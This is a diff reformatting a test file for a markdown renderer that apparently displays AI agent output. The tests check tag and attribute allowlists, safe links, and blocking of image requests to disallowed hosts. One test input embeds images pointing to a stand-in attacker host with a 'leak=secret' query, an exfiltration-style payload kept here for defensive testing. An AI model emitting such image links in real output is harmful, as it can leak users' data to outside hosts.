@@ -5,14 +5,49 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { MarkdownStream, renderMarkdown } from '../../src/render/index.js';
 import type { RenderOptions } from '../../src/render/index.js';
 
-const ALLOWED = new Set(['p', 'em', 'strong', 'del', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li',
-  'blockquote', 'pre', 'code', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'br', 'img',
+const ALLOWED = new Set([
+  'p',
+  'em',
+  'strong',
+  'del',
+  'h1',
+  'h2',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
+  'ul',
+  'ol',
+  'li',
+  'blockquote',
+  'pre',
+  'code',
+  'a',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'hr',
+  'br',
+  'img',
   // the code block's wrapper, header bar, language and copy button; the table's wrapper
-  'div', 'span', 'button']);
+  'div',
+  'span',
+  'button',
+]);
 const ATTRIBUTES: Record<string, string[]> = {
-  a: ['href', 'title', 'target', 'rel'], img: ['src', 'alt', 'title', 'loading', 'referrerpolicy'],
-  ol: ['start'], code: ['class'], div: ['class', 'tabindex'], span: ['class'], button: ['type', 'class'],
-  th: ['align'], td: ['align'], pre: ['tabindex'],
+  a: ['href', 'title', 'target', 'rel'],
+  img: ['src', 'alt', 'title', 'loading', 'referrerpolicy'],
+  ol: ['start'],
+  code: ['class'],
+  div: ['class', 'tabindex'],
+  span: ['class'],
+  button: ['type', 'class'],
+  th: ['align'],
+  td: ['align'],
+  pre: ['tabindex'],
 };
 
 const win = window as unknown as { pwned?: number };
@@ -89,7 +124,8 @@ function check(root: HTMLElement) {
       expect(e.getAttribute('referrerpolicy')).toBe('no-referrer');
       expect(e.getAttribute('loading')).toBe('lazy');
     }
-    if (tag === 'code' && e.hasAttribute('class')) expect(e.getAttribute('class')).toMatch(/^language-[\p{L}\p{N}_+#.-]+$/u);
+    if (tag === 'code' && e.hasAttribute('class'))
+      expect(e.getAttribute('class')).toMatch(/^language-[\p{L}\p{N}_+#.-]+$/u);
   }
 }
 
@@ -170,11 +206,19 @@ describe('agent output cannot run script or leak data', () => {
   });
 
   it('keeps http, https, mailto and relative links, opened in a new tab', () => {
-    const [root] = renders('[a](https://a.example/x) [b](http://b.example) [c](mailto:c@example.com) '
-      + '[d](/docs/page) <https://e.example> <f@example.com>');
+    const [root] = renders(
+      '[a](https://a.example/x) [b](http://b.example) [c](mailto:c@example.com) ' +
+        '[d](/docs/page) <https://e.example> <f@example.com>',
+    );
     const hrefs = [...root!.querySelectorAll('a')].map((a) => a.getAttribute('href'));
-    expect(hrefs).toEqual(['https://a.example/x', 'http://b.example', 'mailto:c@example.com', '/docs/page',
-      'https://e.example', 'mailto:f@example.com']);
+    expect(hrefs).toEqual([
+      'https://a.example/x',
+      'http://b.example',
+      'mailto:c@example.com',
+      '/docs/page',
+      'https://e.example',
+      'mailto:f@example.com',
+    ]);
   });
 
   it('requests no image from a host that is not allowed, and renders its alt text instead', async () => {
@@ -182,15 +226,22 @@ describe('agent output cannot run script or leak data', () => {
     const seen: string[] = [];
     const observer = new PerformanceObserver((list) => list.getEntries().forEach((e) => seen.push(e.name)));
     observer.observe({ type: 'resource', buffered: false });
-    for (const root of renders('See ![the chart](https://attacker.example/p.png?leak=secret) and '
-      + '![x](//attacker.example/q.png) ![y](https://localhost.attacker.example/r.png)')) {
+    for (const root of renders(
+      'See ![the chart](https://attacker.example/p.png?leak=secret) and ' +
+        '![x](//attacker.example/q.png) ![y](https://localhost.attacker.example/r.png)',
+    )) {
       expect(root.querySelector('img')).toBeNull();
       expect(root.textContent).toBe('See the chart and x y');
     }
     await new Promise((r) => setTimeout(r, 200));
     observer.disconnect();
-    const leaked = [...seen, ...performance.getEntriesByType('resource').slice(before).map((e) => e.name)]
-      .filter((u) => u.includes('attacker.example'));
+    const leaked = [
+      ...seen,
+      ...performance
+        .getEntriesByType('resource')
+        .slice(before)
+        .map((e) => e.name),
+    ].filter((u) => u.includes('attacker.example'));
     expect(leaked).toEqual([]);
   });
 
